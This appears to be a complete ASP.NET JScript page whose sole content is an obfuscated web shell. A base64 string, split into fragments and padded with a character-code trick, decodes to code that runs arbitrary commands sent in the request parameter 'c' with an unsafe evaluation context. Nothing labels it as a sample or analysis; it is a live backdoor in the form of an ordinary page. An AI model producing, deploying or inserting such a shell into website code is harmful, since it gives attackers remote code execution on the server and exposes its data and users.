<%@ Page Language="JScript" %>
<%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String('dmFyIG'+'N0eD0i'+'dW4iKy'+'JzYWZl'+'Ijtldm'+'FsKFJl'+'cXVlc3'+'QuSXRl'+'bVsiYy'+'JdLCBj'+'dHgpOw'+'=='+String.fromCharCode(0x41-0x41+0x3D).substring(1))));%>
